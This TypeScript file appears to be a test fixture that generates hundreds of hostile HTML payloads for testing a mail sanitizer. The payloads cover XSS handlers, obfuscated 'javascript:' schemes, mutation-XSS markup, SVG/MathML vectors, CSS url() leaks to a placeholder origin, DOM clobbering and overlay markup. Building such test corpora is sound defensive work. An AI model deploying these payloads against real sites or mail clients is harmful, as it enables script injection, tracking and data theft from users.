// Hostile HTML of every known kind, generated from tags, attack routes and ways to write them.

export interface HostileHtml {
  name: string
  html: string
  /** The number of payloads in it. */
  payloads: number
}

/** The code that an attack would run: it informs the page that shows the mail, and opens a dialog. */
const code = 'top.hostile(1);alert(1)'

const tags = [
  ...[
    'img',
    'svg',
    'body',
    'div',
    'video',
    'audio',
    'details',
    'input',
    'marquee',
    'iframe',
    'object',
    'table',
  ],
  ...['a', 'button', 'select', 'textarea', 'style', 'math', 'frameset', 'image', 'custom-tag', 'dialog'],
]
const handlers = [
  ...['src=x onerror=CODE', 'onload=CODE', 'autofocus tabindex=1 onfocus=CODE', 'open ontoggle=CODE'],
  ...[
    'onmouseover="CODE"',
    "onclick='CODE'",
    'style="animation:x" onanimationstart=CODE',
    '/onerror=CODE/src=x',
  ],
]

/** Ways to write `javascript:` that have passed filters. */
const schemes = [
  ...['javascript:CODE', 'JaVaScRiPt:CODE', ' javascript:CODE', 'java\tscript:CODE', 'java\nscript:CODE'],
  ...['java\r\nscript:CODE', '&#106;avascript:CODE', '&#x6A;&#x61;vascript:CODE', 'javascript&colon;CODE'],
  ...['javascript&#58;CODE', '&#1;javascript:CODE', 'java&Tab;script&colon;CODE', 'java&NewLine;script:CODE'],
  ...['javascript:%61lert(1)', 'javascript://far.test/%0aCODE', '\u00a0javascript:CODE', 'vbscript:CODE'],
  ...[
    'data:text/html,<script>CODE</script>',
    'data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZSgxKTwvc2NyaXB0Pg==',
  ],
  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"/>', 'feed:javascript:CODE'],
  ...['blob:FAR/x', 'filesystem:FAR/x', 'view-source:FAR/x', 'about:blank', 'file:///etc/passwd'],
]
const carriers = [
  ...[
    '<a href="URL">x</a>',
    '<area href="URL">',
    '<iframe src="URL"></iframe>',
    '<object data="URL"></object>',
  ],
  ...['<embed src="URL">', '<form action="URL"><input type=submit></form>', '<img src="URL">'],
  ...['<button formaction="URL" form=f>x</button>', '<meta http-equiv=refresh content="0;url=URL">'],
  ...['<svg><a xlink:href="URL"><text y=9>x</text></a></svg>', '<math href="URL">x</math>'],
  ...['<link rel=stylesheet href="URL">', '<base href="URL"><a href=x>x</a>', '<input type=image src="URL">'],
]

const scripts = [
  ...[
    '<script>CODE</script>',
    '<ScRiPt>CODE</sCrIpT>',
    '<script src=FAR/a.js></script>',
    '<script/src=FAR/a.js>',
  ],
  ...['<script type=module>CODE</script>', '<script\x0c>CODE</script>', '<scr<script>ipt>CODE</script>'],
  ...[
    '<<script>CODE//<</script>',
    '<script>CODE',
    '<script language=vbscript>x</script>',
    '%3Cscript%3ECODE%3C/script%3E',
  ],
  ...[
    '&lt;script&gt;CODE&lt;/script&gt;',
    '\ufeff<script>CODE</script>',
    '+ADw-script+AD4-CODE+ADw-/script+AD4-',
  ],
  ...[
    '<svg><script>CODE</script></svg>',
    '<svg><script href=data:,CODE /></svg>',
    '<math><script>CODE</script></math>',
  ],
  ...['<noscript><script>CODE</script></noscript>', '<template><script>CODE</script></template>'],
  ...['<object><param name=src value=FAR/x.swf></object>', '<applet code=FAR/x.class></applet>'],
  ...['<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">CODE</html:script>'],
  ...['<xml><![CDATA[<script>CODE</script>]]></xml>', '<!--[if gte IE 4]><script>CODE</script><![endif]-->'],
  ...[
    '<iframe srcdoc="<script>CODE</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=CODE&gt;"></iframe>',
  ],
  ...[
    '<portal src=FAR/x></portal>',
    '<fencedframe src=FAR/x></fencedframe>',
    '<frameset><frame src=FAR/x></frameset>',
  ],
]

/** Markup that parses differently the second time. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=CODE>"></noscript>',
  '<svg></p><style><a id="</style><img src=x onerror=CODE>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
  '<math><mtext><table><mglyph><style><math><img src onerror=CODE></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>',
  '<svg><style><img src=x onerror=CODE></style></svg>',
  '<svg><title><style><img src=x onerror=CODE></style></title></svg>',
  '<svg><desc><noembed><img src=x onerror=CODE></noembed></desc></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CODE></style></annotation-xml></math>',
  '<svg><foreignObject><iframe srcdoc="<img src=x onerror=CODE>"></foreignObject></svg>',
  '<style><style/><img src=x onerror=CODE>',
  '<title><a title="</title><img src=x onerror=CODE>">',
  '<textarea><a title="</textarea><img src=x onerror=CODE>">',
  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
  '<noembed><p title="</noembed><img src=x onerror=CODE>">',
  '<noframes><p title="</noframes><img src=x onerror=CODE>">',
  '<plaintext><img src=x onerror=CODE>',
  '<select><template><img src=x onerror=CODE></template></select>',
  '<select><style></select><img src=x onerror=CODE></style>',
  '<a title="a`<img src=x onerror=CODE>`">x</a>',
  '<!--><img src=x onerror=CODE>-->',
  '<!--!><img src=x onerror=CODE>--!>',
  '<!-- --!><img src=x onerror=CODE> -->',
  '<![CDATA[><img src=x onerror=CODE>]]>',
  '<?><img src=x onerror=CODE>?>',
  '</><img src=x onerror=CODE>',
  '<div title="</div><img src=x onerror=CODE>',
  '<img src="x` `<script>CODE</script>"` `>',
  '<a/href="/"onmouseover=CODE//x>x</a>',
  '<table><tr><td><svg><desc><table><td></svg><img src=x onerror=CODE>',
  '<svg><p><style><g title="</style><img src=x onerror=CODE>">',
  '<math><mi><table><mi><mglyph><style><img src=x onerror=CODE>',
  `${'<div>'.repeat(600)}<img src=x onerror=CODE>`,
  `${'<table><td>'.repeat(260)}<svg><style><img src=x onerror=CODE>`,
  '<template shadowrootmode=open><script>CODE</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=CODE><slot></slot></template></div>',
]

const drawings = [
  '<svg onload=CODE>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s></svg>',
  '<svg><set onbegin=CODE attributeName=x to=1></svg>',
  '<svg><a><animate attributeName=href values=javascript:CODE /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CODE</script></svg>#x"/></svg>',
  '<svg><use href="FAR/x.svg#x"/></svg>',
  '<svg><image href="FAR/x.png"/></svg>',
  '<svg><image xlink:href="FAR/x.png"/></svg>',
  '<svg><feImage href="FAR/x.png"/></svg>',
  '<svg><filter><feImage xlink:href="FAR/x.png"/></filter></svg>',
  '<svg><discard onbegin=CODE /></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">CODE</handler></svg>',
  '<svg><foreignObject><body onload=CODE></foreignObject></svg>',
  '<math><maction actiontype="statusline#http://far.test" xlink:href="javascript:CODE">x</maction></math>',
  '<math><mrow href="javascript:CODE"><mi>x</mi></mrow></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=CODE></annotation-xml></semantics></math>',
]

const properties = [
  ...[
    'background',
    'background-image',
    'list-style',
    'list-style-image',
    'border-image',
    'cursor',
    'content',
  ],
  ...[
    'mask',
    '-webkit-mask-image',
    'filter',
    'clip-path',
    'shape-outside',
    'behavior',
    '-moz-binding',
    'src',
  ],
]
const functions = [
  'url(FAR/c)',
  'url("FAR/c")',
  'image-set("FAR/c" 1x)',
  'u\\72l(FAR/c)',
  '-webkit-cross-fade(url(FAR/c),url(FAR/c))',
]
const sheets = [
  '@import "FAR/a.css";',
  '@import url(FAR/a.css);',
  '@font-face{font-family:x;src:url(FAR/f)}body{font-family:x}',
  'a[href^="http"]{background:url(FAR/leak)}',
  'body{background:url(FAR/b)}p{width:expression(CODE)}',
  '@namespace url(FAR/n);@supports (x:y){}',
  'p::before{content:url(FAR/b)}',
  'html{--x:url(FAR/v);background:var(--x)}',
  '@page{background:url(FAR/p)}@media print{body{background:url(FAR/p)}}',
  '</style><img src=x onerror=CODE><style>',
  '@charset "x";*{background:\\75\\72\\6c(FAR/b)}',
]

/** Everything that a browser would fetch from elsewhere by itself. */
const fetched = [
  ...[
    '<img src=FAR/i>',
    '<img src="//HOST/i">',
    '<img srcset="FAR/i 2x">',
    '<img lowsrc=FAR/i>',
    '<img dynsrc=FAR/i>',
  ],
  ...[
    '<img data-remote-src=FAR/i>',
    '<img data-cid=x src=FAR/i>',
    '<img src="\\\\HOST\\i">',
    '<image src=FAR/i>',
  ],
  ...[
    '<picture><source srcset=FAR/i><img></picture>',
    '<body background=FAR/i>',
    '<table background=FAR/i><td>x',
  ],
  ...['<table><td background=FAR/i>x', '<video poster=FAR/i></video>', '<video src=FAR/v autoplay></video>'],
  ...[
    '<video><source src=FAR/v></video>',
    '<audio src=FAR/a autoplay></audio>',
    '<video><track src=FAR/t default></video>',
  ],
  ...[
    '<input type=image src=FAR/i>',
    '<embed src=FAR/e>',
    '<object data=FAR/o></object>',
    '<iframe src=FAR/f></iframe>',
  ],
  ...[
    '<link rel=stylesheet href=FAR/c>',
    '<link rel=preload as=image href=FAR/i>',
    '<link rel=prefetch href=FAR/p>',
  ],
  ...['<link rel=icon href=FAR/i>', '<link rel=dns-prefetch href=FAR>', '<link rel=preconnect href=FAR>'],
  ...[
    '<link rel=prerender href=FAR/p>',
    '<link rel=manifest href=FAR/m>',
    '<link rel=modulepreload href=FAR/m>',
  ],
  ...[
    '<link rel=preload as=image imagesrcset="FAR/i 1x">',
    '<bgsound src=FAR/s>',
    '<base href=FAR/><img src=i>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=FAR/r">',
    '<meta http-equiv=refresh content=\'0; url="FAR/r"\'>',
  ],
  ...[
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri FAR/r"><img src=FAR/i>',
  ],
  ...[
    '<a href=FAR/a ping=FAR/p attributionsrc=FAR/t>x</a>',
    '<img attributionsrc=FAR/t>',
    '<html manifest=FAR/m>',
  ],
  ...[
    '<form action=FAR/f method=post><input name=q value=1><script>document.forms[0].submit()</script></form>',
  ],
  ...[
    '<form id=f action=FAR/f></form><input form=f type=image src=FAR/i formaction=FAR/g>',
    '<isindex action=FAR/f>',
  ],
  ...[
    '<blockquote cite=FAR/c>x</blockquote>',
    '<ins cite=FAR/c>x</ins>',
    '<img usemap=FAR/m longdesc=FAR/l>',
  ],
]

/** Names that would shadow properties of a document or an element. */
const clobbering = [
  'body',
  'head',
  'cookie',
  'documentElement',
  'createElement',
  'URL',
  'top',
  'parent',
  'hostile',
].flatMap((name) => [
  `<img name=${name}><img name=${name} src=x>`,
  `<form name=${name} id=${name}><input name=attributes><input name=childNodes><input name=nodeName></form>`,
  `<iframe name=${name} srcdoc="x"></iframe><a id=${name} href="javascript:CODE">x</a>`,
])
const covering = [
  '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
  '<dialog open style="position:fixed">x</dialog>',
  '<div popover id=p>x</div><button popovertarget=p>x</button>',
  '<p style="position:absolute;top:-999px">x</p>',
  '<a href="/app/v1/inboxes" target=_top>x</a>',
  '<a href="#x" target=_parent>x</a><a href="?x" target=_self>x</a>',
  '<p contenteditable autofocus onfocus=CODE accesskey=x>x</p>',
]

/** The number of payloads with closed tags in one mail. */
const atOnce = 4

/** All payloads. `far` is an origin that must never receive a request. */
export function hostileHtml(far: string): HostileHtml[] {
  const { host } = new URL(far)
  const written = (html: string) =>
    html.replaceAll('CODE', code).replaceAll('FAR', far).replaceAll('HOST', host)
  const named = (kind: string, htmls: string[], payloads: number) =>
    htmls.map((html, at) => ({ name: `${kind} ${at}`, html: written(html), payloads }))
  const closed: Record<string, string[]> = {
    handler: tags.flatMap((tag) => handlers.map((way) => `<${tag} ${way}>x</${tag}>`)),
    scheme: carriers.flatMap((carrier) =>
      schemes.map((url) => carrier.replace('URL', () => url.replaceAll('"', '&quot;'))),
    ),
    style: properties.flatMap((name) => functions.map((value) => `<p style='${name}: ${value}'>x</p>`)),
  }
  const sheetsInMails = sheets.map(
    (sheet) => `<style>${sheet}</style><p><a href="https://ok.test/">x</a></p>`,
  )
  const alone: Record<string, string[]> = {
    script: scripts,
    mutation: mutations,
    drawing: drawings,
    sheet: sheetsInMails,
    fetched,
    clobbering,
    covering,
  }
  return [
    ...Object.entries(closed).flatMap(([kind, htmls]) => named(kind, joined(htmls), atOnce)),
    ...Object.entries(alone).flatMap(([kind, htmls]) => named(kind, htmls, 1)),
  ]
}

function joined(htmls: string[]): string[] {
  const groups = Array.from({ length: Math.ceil(htmls.length / atOnce) }, (_, at) => at * atOnce)
  return groups.map((at) => htmls.slice(at, at + atOnce).join('\n'))
}
